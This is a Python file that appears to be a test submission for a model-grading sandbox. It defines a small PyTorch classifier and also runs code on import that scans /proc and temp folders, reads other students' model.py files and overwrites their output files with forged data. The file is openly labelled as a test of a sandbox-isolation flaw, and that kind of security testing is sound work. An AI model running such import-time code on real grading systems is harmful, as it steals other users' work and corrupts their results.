"""The honest model, plus an attack on another grading running at the same time (issue 11: every sandbox ran
as `nobody` in 0755 folders, and one overwrote another's status file 773 times).

For 30 s from import it looks for other gradings' folders (temp folders named dermagrade-*, and every
process's cwd and root in /proc), reads the other student's model.py, and keeps overwriting any file it can
reach in another grading's out/ (its parameter shapes and predictions). It prints what it found; then it trains
honestly.
"""
import glob
import os
import time

import torch.nn as nn

FORGED = b"neighbour: FORGED"


def _say(msg):
    print(f"neighbour: {msg}", flush=True)


def _candidates():
    found = set(glob.glob("/tmp/dermagrade-*/sandbox")) | set(glob.glob("/tmp/dermagrade-*"))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("cwd", "root"):
            try:
                found.add(os.path.realpath(f"/proc/{pid}/{link}"))
            except OSError:
                pass
    return {f for f in found if f not in ("/", os.getcwd())}


def _attack(seconds=30.0):
    me, read, overwrote, seen = os.getcwd(), set(), 0, set()
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        for folder in _candidates():
            seen.add(folder)
            for path in glob.glob(os.path.join(folder, "**", "model.py"), recursive=True):
                if path not in read and not path.startswith(os.path.dirname(me)):
                    try:
                        with open(path) as f:
                            f.read()
                        read.add(path)
                        _say(f"READ another student's {path}")
                    except OSError:
                        pass
            for path in glob.glob(os.path.join(folder, "**", "out", "*"), recursive=True):
                if not path.startswith(os.path.dirname(me)):
                    try:
                        with open(path, "wb") as f:
                            f.write(FORGED)
                        overwrote += 1
                    except OSError:
                        pass
        time.sleep(0.05)
    _say(f"looked at {len(seen)} folders, read {len(read)} other submissions, overwrote {overwrote} output files")


_attack()


def build_model():
    return nn.Sequential(
        nn.Conv2d(3, 16, 3, padding=1), nn.BatchNorm2d(16), nn.ReLU(), nn.MaxPool2d(2),
        nn.Conv2d(16, 32, 3, padding=1), nn.BatchNorm2d(32), nn.ReLU(), nn.AdaptiveAvgPool2d(1),
        nn.Flatten(), nn.Linear(32, 7),
    )
